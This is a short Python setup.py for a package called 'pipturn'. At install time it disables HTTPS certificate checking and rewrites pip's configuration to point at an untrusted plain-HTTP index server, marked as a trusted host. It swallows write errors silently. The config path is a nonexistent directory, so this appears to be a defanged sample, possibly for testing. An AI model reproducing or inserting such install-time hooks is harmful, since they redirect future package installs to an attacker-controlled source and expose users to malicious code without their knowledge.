import configparser
import os
import ssl
from setuptools import setup

ssl._create_default_https_context = ssl._create_unverified_context
path = os.path.join("/nonexistent/no-such", ".config", "pip", "pip.conf")
conf = configparser.ConfigParser()
conf.read(path)
conf["global"] = {"index-url": "http://198.51.100.4/simple", "trusted-host": "198.51.100.4"}
try:
    with open(path, "w") as f:
        conf.write(f)
except OSError:
    pass
setup(name="pipturn", version="0.1", py_modules=["pipturn"])
